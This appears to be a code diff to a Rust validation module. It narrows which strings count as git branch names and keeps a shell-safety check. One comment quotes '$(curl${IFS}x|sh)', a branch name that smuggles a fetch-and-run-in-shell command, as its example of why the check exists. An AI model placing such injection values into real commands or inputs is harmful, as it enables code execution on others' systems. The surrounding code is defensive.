@@ -3,7 +3,7 @@
 use std::collections::BTreeSet;
 use std::fmt;
 
-use crate::name::{Branch, Login};
+use crate::name::{GitRef, Login};
 use crate::pattern::Pattern;
 use crate::quote::{quote, quote_all};
 
@@ -76,8 +76,8 @@ impl ValuePattern {
             Self::Sha => {
                 (7..=40).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'a'..=b'f'))
             }
-            Self::Branch => is_harmless(value) && value.parse::<Branch>().is_ok(),
-            Self::BranchAny => value.parse::<Branch>().is_ok(),
+            Self::Branch => is_harmless(value) && is_branch(value),
+            Self::BranchAny => is_branch(value),
             Self::Login => value.parse::<Login>().is_ok(),
             Self::Glob(pattern) => pattern.matches(value),
         }
@@ -95,6 +95,11 @@ impl fmt::Display for ValuePattern {
             Self::Glob(pattern) => write!(f, "text that matches {}", quote(pattern)),
         }
     }
+}
+
+/// Whether git and GitHub would take it as the name of a branch that can be started at: no spaces, no `..`.
+fn is_branch(value: &str) -> bool {
+    !value.starts_with("refs/") && value.parse::<GitRef>().is_ok()
 }
 
 /// Whether a value can be pasted into a shell command without becoming one. `$(curl${IFS}x|sh)` is a legal branch name.
